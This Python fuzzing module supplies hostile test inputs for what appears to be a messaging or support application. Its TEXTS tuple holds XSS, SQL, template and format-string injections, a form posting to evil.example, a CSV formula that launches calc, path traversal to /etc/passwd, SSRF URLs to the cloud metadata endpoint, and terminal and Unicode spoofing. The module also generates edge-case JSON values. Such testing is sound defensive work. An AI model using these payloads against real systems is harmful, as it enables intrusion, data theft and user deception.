"""What people write who mean no good, and values that nobody expects."""

from __future__ import annotations

import json
from random import Random
from typing import Any, Final

TEXTS: Final = (
    "@everyone look here",
    "@here <@123> <@&456> <#789> </ask:1> <t:1>",
    "<!channel> <!here> <!everyone> <!subteam^S0TEAM> <@U0ANA> <#C0DESK|x>",
    "<https://evil.example|https://juniper.example/track>",
    "[https://juniper.example](https://evil.example) ![x](https://evil.example/p.png)",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    '"><svg/onload=alert(1)>',
    "javascript:alert(1) data:text/html,<b>x",
    "</textarea></form><form action=https://evil.example>",
    "{{ 7*7 }} {% for x in range(9**9) %}x{% endfor %}",
    "{0.__class__.__init__.__globals__} {first_name.__class__} {n:>100000000}",
    "${7*7} #{7*7} <%= 7*7 %> %(name)s %s%s%n %x",
    "\x1b[2J\x1b]0;owned\x07\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "\x9b31m\x90q\x9c\x07\x08\x08\x08\x7f",
    "\u202etxt.exe\u202c \u2066left\u2069 \u200frtl",
    "zero\u200bwidth\u200d\u2060\ufeff\u00ad\U000e0001\U000e0041",
    "Z\u0300\u0301\u0302\u0303\u0304\u0305\u0306" * 40,
    "line one\nline two\r\nline three\rline four\x85five\u2028six\u2029seven\x0b\x0c",
    "=cmd|' /C calc'!A0 +1 -1 @SUM(1)",
    "'; DROP TABLE messages; -- \" OR 1=1",
    "../../../../etc/passwd %2e%2e%2f \\\\evil\\share",
    "http://127.0.0.1:9/ http://169.254.169.254/latest/meta-data http://[::1]/ file:///etc/passwd gopher://x",
    "a" * 20_000,
    "👩‍👩‍👧‍👦" * 500,
    "((((" * 500 + "a" * 500 + "!",
    "re: re: re: " * 300,
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!",
    "\ufdfa" * 300,
    "ﷺ ẞ ﬃ ǅ İ ı",
    "𝕨𝕙𝕖𝕣𝕖 𝕚𝕤 𝕞𝕪 𝕠𝕣𝕕𝕖𝕣",
    "\x00\x01\x02\x03",
    "STOP",
    "where is my order",
    "could you sponsor our village fair next summer",
)
"""Texts made to break out of wherever they are shown or read."""
NUMBERS: Final = (
    0,
    -1,
    1,
    2**31,
    2**53,
    2**63 - 1,
    2**63,
    -(2**63) - 1,
    10**40,
    0.5,
    -0.0,
    1e308,
    253402300800,
    10**15,
)
EXACT: Final = ("null", "true", "false", '""', "[]", "{}", "[[]]", '{"": {}}', '"null"', '"0"', '" "')
"""As JSON, since a list that is shared would be changed."""
RAW_JSON: Final = (
    b"NaN",
    b"Infinity",
    b"1e999",
    b"9" * 5_000,
    b'"\\ud83c"',
    b'"\\u0000"',
    b"\xff\xfe",
    b"-",
    b"[" * 2_000,
)
"""Values that JSON libraries disagree about; put between other bytes."""


def text(chance: Random) -> str:
    """Some text, mostly hostile."""
    if chance.random() < 0.2:
        return "".join(chr(_point(chance)) for _ in range(chance.randrange(12)))
    return chance.choice(TEXTS)


def value(chance: Random, depth: int = 0) -> Any:
    """Some JSON value, mostly one that nobody expects."""
    match chance.randrange(7 if depth < 3 else 5):
        case 0 | 1:
            return text(chance)
        case 2:
            return chance.choice(NUMBERS)
        case 3 | 4:
            return json.loads(chance.choice(EXACT))
        case 5:
            return [value(chance, depth + 1) for _ in range(chance.randrange(4))]
        case _:
            return {text(chance)[:20]: value(chance, depth + 1) for _ in range(chance.randrange(4))}


def _point(chance: Random) -> int:
    """A code point that is no surrogate."""
    point = chance.choice((chance.randrange(0x80), chance.randrange(0x3000), chance.randrange(0x10FFFF)))
    return point if not 0xD800 <= point < 0xE000 else 0xFFFD
